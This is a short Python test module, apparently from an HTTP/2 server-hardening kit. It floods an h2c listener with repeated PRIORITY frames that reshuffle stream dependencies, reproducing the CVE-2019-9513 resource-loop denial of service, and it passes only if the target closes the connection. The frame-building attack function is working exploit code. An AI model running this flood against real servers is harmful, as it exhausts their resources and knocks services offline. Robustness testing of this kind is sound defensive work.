"""PRIORITY flood: the tree is shuffled and nothing is asked.

CVE-2019-9513 (resource loop); RFC 9113 §5.3.2 (deprecated, still parsed). Dependencies of few idle streams are turned around.
"""
import struct

from kit.frames import PRIORITY, frame

LISTENER = "h2c"
GROWTH_MIB = 16


def attack(enemy):
    def turn(stream, parent, exclusive):
        return frame(PRIORITY, 0, stream, struct.pack(">IB", parent | (0x80000000 if exclusive else 0), 200))
    unit = b"".join(turn(stream, (stream + 2) % 32 | 1, stream % 4 == 1) for stream in range(1, 31, 2))
    enemy.flood_http2(unit * 300)


def judge(notes):
    return [] if notes.get("closed by target") else ["no connection was ended"]
